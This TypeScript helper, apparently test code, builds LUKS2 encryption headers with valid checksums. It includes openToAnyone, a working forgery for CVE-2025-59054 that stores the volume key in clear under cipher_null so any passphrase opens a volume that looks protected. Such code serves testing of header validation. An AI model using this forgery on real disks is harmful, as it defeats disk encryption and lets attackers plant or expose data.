// SPDX-License-Identifier: Apache-2.0
// LUKS2 headers as anybody can write them: any JSON, with checksums that are right.

import { createHash, pbkdf2Sync } from "node:crypto";

const COPY = 16 * 1024;
const BINARY = 4096;
const CHECKSUM = 448;

/** Both copies of a header, each of 16 KiB. */
export function luksHeader(
  json: string,
  { sequence = 3n, uuid = "00000000-0000-4000-8000-0000000000aa" } = {},
): Uint8Array {
  const header = Buffer.alloc(2 * COPY);
  for (const [start, magic] of [
    [0, "LUKS\xba\xbe"],
    [COPY, "SKUL\xba\xbe"],
  ] as const) {
    const copy = header.subarray(start, start + COPY);
    copy.write(magic, 0, "latin1");
    copy.writeUInt16BE(2, 6);
    copy.writeBigUInt64BE(BigInt(COPY), 8);
    copy.writeBigUInt64BE(sequence, 16);
    copy.write("sha256", 72);
    copy.write(uuid, 168);
    copy.writeBigUInt64BE(BigInt(start), 256);
    if (copy.write(json, BINARY) < Buffer.byteLength(json)) throw new Error("the JSON is too long");
    sign(copy);
  }
  return header;
}

/** Writes the checksum of one copy anew. */
export function sign(copy: Uint8Array): void {
  copy.fill(0, CHECKSUM, CHECKSUM + 64);
  copy.set(createHash("sha256").update(copy).digest(), CHECKSUM);
}

/** The JSON of a header that cryptsetup made. */
export function jsonOf(header: Uint8Array): string {
  const area = Buffer.from(header.subarray(BINARY, COPY));
  return area.toString("utf8", 0, area.indexOf(0));
}

/** What cryptsetup writes for a disk of the usual kind, its parts to be replaced. */
export function luksMetadata(): LuksJson {
  return {
    keyslots: {
      "0": {
        type: "luks2",
        key_size: 64,
        area: {
          type: "raw",
          offset: "32768",
          size: "258048",
          encryption: "aes-xts-plain64",
          key_size: 64,
        },
        kdf: { type: "argon2id", time: 4, memory: 1_048_576, cpus: 4, salt: base64(32, 1) },
        af: { type: "luks1", stripes: 4000, hash: "sha256" },
      },
    },
    tokens: {},
    segments: {
      "0": {
        type: "crypt",
        offset: "16777216",
        size: "dynamic",
        iv_tweak: "0",
        encryption: "aes-xts-plain64",
        sector_size: 4096,
      },
    },
    digests: {
      "0": {
        type: "pbkdf2",
        keyslots: ["0"],
        segments: ["0"],
        hash: "sha256",
        iterations: 1000,
        salt: base64(32, 2),
        digest: base64(32, 3),
      },
    },
    config: { json_size: "12288", keyslots_size: "16744448" },
  };
}

/** The JSON of a header, open to all that is not in the format. */
export interface LuksJson {
  keyslots: Record<string, Record<string, unknown>>;
  tokens: Record<string, Record<string, unknown>>;
  segments: Record<string, Record<string, unknown>>;
  digests: Record<string, Record<string, unknown>>;
  config: Record<string, unknown>;
}

/** JSON text as json-c writes it: without blanks, with `/` as `\/`. */
export function asCryptsetup(value: unknown): string {
  return JSON.stringify(value).replaceAll("/", "\\/");
}

/**
 * A header that any passphrase opens, though it looks as if it had one: the volume key lies in clear
 * in the keyslot, under the cipher that does nothing (CVE-2025-59054).
 * @param header What cryptsetup made; its keyslot area is replaced.
 * @param cipher Cipher of the data, of the attacker's choice too.
 */
export function openToAnyone(header: Uint8Array, key: Uint8Array, cipher: string): Uint8Array {
  const json = JSON.parse(jsonOf(header)) as LuksJson;
  const area = json.keyslots["0"]!["area"] as { offset: string; encryption: string };
  area.encryption = "cipher_null-ecb";
  json.segments["0"]!["encryption"] = cipher;
  const digest = json.digests["0"]! as { salt: string; iterations: number; digest: string };
  const salt = Buffer.from(digest.salt, "base64");
  digest.digest = pbkdf2Sync(key, salt, digest.iterations, 32, "sha256").toString("base64");
  const forged = Uint8Array.from(header);
  forged.set(luksHeader(asCryptsetup(json)));
  forged.set(splitInClear(key), Number(area.offset));
  return forged;
}

/** A key in stripes that merge to it: all zero but the last (LUKS On-Disk Format 1.2.3, section 2.4). */
function splitInClear(key: Uint8Array, stripes = 4000): Uint8Array {
  let mixed = Buffer.alloc(key.length);
  for (let stripe = 0; stripe < stripes - 1; stripe++) mixed = diffuse(mixed);
  const split = Buffer.alloc(key.length * stripes);
  const last = key.map((byte, i) => byte ^ mixed[i]!);
  split.set(last, key.length * (stripes - 1));
  return split;
}

function diffuse(data: Uint8Array): Buffer<ArrayBuffer> {
  const target = Buffer.alloc(data.length);
  for (let at = 0, index = 0; at < data.length; at += 32, index++) {
    const counter = Buffer.alloc(4);
    counter.writeUInt32BE(index);
    const chunk = data.subarray(at, at + 32);
    const digest = createHash("sha256").update(counter).update(chunk).digest();
    target.set(digest.subarray(0, chunk.length), at);
  }
  return target;
}

function base64(length: number, seed: number): string {
  return Buffer.alloc(length, seed).toString("base64");
}
